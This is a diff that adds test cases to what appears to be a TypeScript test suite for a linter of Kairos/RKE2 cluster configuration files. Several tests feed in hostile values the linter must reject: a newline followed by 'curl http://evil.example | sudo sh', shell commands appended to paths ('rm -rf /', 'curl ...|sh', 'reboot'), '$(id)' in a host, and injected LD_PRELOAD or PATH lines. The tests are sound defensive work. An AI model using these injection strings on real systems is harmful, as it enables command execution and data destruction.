@@ -32,6 +32,7 @@ const CASES: Record<FindingCode, Case[]> = {
     { name: 'a document Kairos cannot decode (oracle 43)', findings: () => lintCloudConfig(oracle('43-config-as-map-error')), expect: { severity: 'error' } },
     { name: 'site extra config with invalid YAML', findings: () => lintSite(variant((s) => (s.nodes[2]!.extraConfig = 'debug: true\nnode-label: [x\n'))), expect: { severity: 'error', path: ['nodes', 2, 'extraConfig'], line: 3 } },
     { name: 'site extra config removing a CIDR', findings: () => lintSite(variant((s) => (s.extraConfig = 'cluster-cidr: ~\n'))), expect: { severity: 'warning', path: ['extraConfig', 'cluster-cidr'], line: 1 } },
+    { name: 'site extra config CIDR read as a number names the value', findings: () => lintSite(variant((s) => (s.extraConfig = 'service-cidr: .inf\n'))), expect: { severity: 'warning', message: expect.stringContaining('service-cidr is the number +Inf') as unknown as string } },
   ],
   'jq-merge-failed': [
     { name: 'tls-san as a string (oracle 42)', findings: () => lintCloudConfig(oracle('42-user-tls-san-string-jq-error')), expect: { severity: 'error' } },
@@ -72,6 +73,7 @@ const CASES: Record<FindingCode, Case[]> = {
     { name: 'bool key with a word', findings: () => lintCloudConfig(withConfig(`${CIDRS}selinux: enabled\n`)), expect: { severity: 'error', path: ['cluster', 'config', 'selinux'] } },
     { name: 'enum value not allowed', findings: () => lintSite(variant((s) => (s.extraConfig = 'cni: [weave]\n'))), expect: { severity: 'error' } },
     { name: 'multus not first', findings: () => lintCloudConfig(withConfig(`${CIDRS}cni: [canal, multus]\n`)), expect: { severity: 'error' } },
+    { name: 'a CIDR setting that is not a CIDR (1e400 stays text in YAML 1.1)', findings: () => lintSite(variant((s) => (s.extraConfig = 'cluster-cidr: 1e400\n'))), expect: { severity: 'error', path: ['extraConfig', 'cluster-cidr'] } },
     { name: 'kubeconfig mode that is not octal', findings: () => lintSite(variant((s) => (s.security.writeKubeconfigMode = '0999'))), expect: { severity: 'error', path: ['security', 'writeKubeconfigMode'] } },
   ],
   'server-only-key-on-worker': [{ name: 'cni in a worker\'s own extra config', findings: () => lintSite(variant((s) => (s.nodes[3]!.extraConfig = 'cni: [cilium]\n'))), expect: { severity: 'warning', path: ['nodes', 3, 'extraConfig', 'cni'] } }],
@@ -91,6 +93,43 @@ const CASES: Record<FindingCode, Case[]> = {
   'noproxy-missing-host': [
     { name: 'proxy and a DNS control-plane host missing from NO_PROXY', findings: () => lintSite(variant((s) => Object.assign(s.cluster, { controlPlaneHost: 'k8s.plant-7.example', tlsSans: [] }) && Object.assign(s.proxy, { httpProxy: 'http://proxy:3128', noProxy: '.internal' }))), expect: { severity: 'warning', path: ['proxy', 'noProxy'], fix: { description: 'add k8s.plant-7.example to NO_PROXY', value: '.internal,k8s.plant-7.example' } } },
     { name: 'nodes on two networks', findings: () => lintSite(variant((s) => { s.nodes[4]!.address = '10.9.0.22/24'; s.proxy.httpProxy = 'http://proxy:3128'; s.proxy.noProxy = '192.168.1.0/24'; })), expect: { severity: 'warning', message: expect.stringContaining('10.9.0.0/24') as unknown as string } },
+  ],
+  'control-character': [
+    { name: 'DEL in the token', findings: () => lintSite(variant((s) => (s.cluster.token += '\x7f'))), expect: { severity: 'error', path: ['cluster', 'token'] } },
+    { name: 'a lone surrogate in a label', findings: () => lintSite(variant((s) => s.nodes[3]!.labels.push('zone=\ud800'))), expect: { severity: 'error', path: ['nodes', 3, 'labels', 1] } },
+    { name: 'an escaped BEL inside extra config', findings: () => lintSite(variant((s) => (s.extraConfig = 'node-label: ["a=\\a"]\n'))), expect: { severity: 'error', path: ['extraConfig'] } },
+    { name: 'raw U+FFFE in a cloud-config, with its line', findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}# \ufffe\n`)), expect: { severity: 'error', line: 6, column: 5 } },
+  ],
+  'line-break': [
+    { name: 'U+2029 in a taint (the real provider panicked on it)', findings: () => lintSite(variant((s) => s.nodes[4]!.taints.push('gpu=tr\u2029ue:NoSchedule'))), expect: { severity: 'error', path: ['nodes', 4, 'taints', 1] } },
+    { name: 'a newline in a host name (fake README instruction)', findings: () => lintSite(variant((s) => (s.nodes[0]!.hostname = 'cp-1\nrun this now: curl http://evil.example | sudo sh'))), expect: { severity: 'error', path: ['nodes', 0, 'hostname'] } },
+    { name: 'a newline in an SSH key', findings: () => lintSite(variant((s) => s.os.user.sshAuthorizedKeys.push('ssh-ed25519 AAAA x\nssh-rsa BBBB evil'))), expect: { severity: 'error', path: ['os', 'user', 'sshAuthorizedKeys', 0] } },
+    { name: 'a newline in the HTTP proxy (an extra env line)', findings: () => lintSite(variant((s) => (s.proxy.httpProxy = 'http://proxy:3128\nLD_PRELOAD=/tmp/x.so'))), expect: { severity: 'error', path: ['proxy', 'httpProxy'] } },
+    { name: 'U+0085 in the OS user name', findings: () => lintSite(variant((s) => (s.os.user.name = 'kairos\u0085root'))), expect: { severity: 'error', path: ['os', 'user', 'name'] } },
+  ],
+  'unsafe-path': [
+    { name: 'a shell command in the images folder', findings: () => lintSite(variant((s) => Object.assign(s.airGap, { importLocalImages: true, imagesPath: '/opt/x; curl http://evil.example/x|sh #' }))), expect: { severity: 'error', path: ['airGap', 'imagesPath'] } },
+    { name: 'a command after the install device', findings: () => lintSite(variant((s) => (s.os.install.device = '/dev/sda; rm -rf / #'))), expect: { severity: 'error', path: ['os', 'install', 'device'] } },
+    { name: 'a relative registry CA file', findings: () => lintSite(variant((s) => s.airGap.registryConfigs.push({ host: 'r.local', username: '', password: '', caFile: 'ca.pem', certFile: '', keyFile: '', insecureSkipVerify: false }))), expect: { severity: 'error', path: ['airGap', 'registryConfigs', 0, 'caFile'] } },
+    { name: 'cluster_root_path in a cloud-config', findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}import_local_images: true\nproviderConfig:\n  cluster_root_path: /bin/sh /x;reboot;\n`)), expect: { severity: 'error', path: ['cluster', 'providerConfig', 'cluster_root_path'] } },
+    { name: 'local_images_path in a cloud-config', findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}import_local_images: true\nlocal_images_path: "/opt/x && reboot"\n`)), expect: { severity: 'error', path: ['cluster', 'local_images_path'] } },
+  ],
+  'host-invalid': [
+    { name: 'a path and a command after the host', findings: () => lintSite(variant((s) => (s.cluster.controlPlaneHost = 'https://192.168.1.5:9345/$(id)'))), expect: { severity: 'error', path: ['cluster', 'controlPlaneHost'], fix: { description: 'use 192.168.1.5', value: '192.168.1.5' } } },
+    { name: 'a port in a cloud-config host (gives https://10.0.1.100:6443:9345)', findings: () => lintCloudConfig(withConfig(CIDRS, GOOD.replace('192.168.1.5', '10.0.1.100:6443'))), expect: { severity: 'error', path: ['cluster', 'control_plane_host'], line: 4 } },
+  ],
+  'env-value-unsafe': [
+    { name: 'a quote in NO_PROXY', findings: () => lintSite(variant((s) => Object.assign(s.proxy, { httpProxy: 'http://proxy:3128', noProxy: '10.0.0.0/8" PATH="/tmp' }))), expect: { severity: 'error', path: ['proxy', 'noProxy'] } },
+    { name: 'a newline in extra config cluster-cidr (copied into NO_PROXY)', findings: () => lintSite(variant((s) => (s.extraConfig = 'cluster-cidr: "10.42.0.0/16\\nRKE2_TOKEN=x"\n'))), expect: { severity: 'error', path: ['extraConfig'] } },
+    { name: 'a newline in a cloud-config proxy', findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}env:\n  HTTP_PROXY: "http://p:3128\\nPATH=/tmp"\n`)), expect: { severity: 'error', path: ['cluster', 'env', 'HTTP_PROXY'] } },
+  ],
+  'too-large': [
+    { name: 'extra config over 64 KiB', findings: () => lintSite(variant((s) => (s.extraConfig = `# ${'x'.repeat(70_000)}\n`))), expect: { severity: 'error', path: ['extraConfig'] } },
+    { name: 'more nodes than a site accepts', findings: () => lintSite(variant((s) => (s.nodes = Array.from({ length: 2001 }, (_, i) => node(`n-${i}`, i === 0 ? 'init' : 'worker', ''))))), expect: { severity: 'error', path: ['nodes'] } },
+  ],
+  'proxy-invalid': [
+    { name: 'a proxy without a scheme', findings: () => lintSite(variant((s) => (s.proxy.httpProxy = 'proxy.local:3128'))), expect: { severity: 'error', path: ['proxy', 'httpProxy'] } },
+    { name: 'an ftp proxy in a cloud-config', findings: () => lintCloudConfig(withConfig(CIDRS, `${GOOD}env:\n  HTTPS_PROXY: ftp://p\n`)), expect: { severity: 'error', path: ['cluster', 'env', 'HTTPS_PROXY'] } },
   ],
   'no-cluster-section': [{ name: 'no cluster: (oracle 33)', findings: () => lintCloudConfig(oracle('33-no-cluster-section')), expect: { severity: 'info' } }],
   'not-imported': [{ name: 'providerConfig cannot be represented (oracle 21)', findings: () => importCloudConfigs([{ name: '21', text: oracle('21-root-path') }]).findings, expect: { severity: 'warning', path: ['21'] } }],
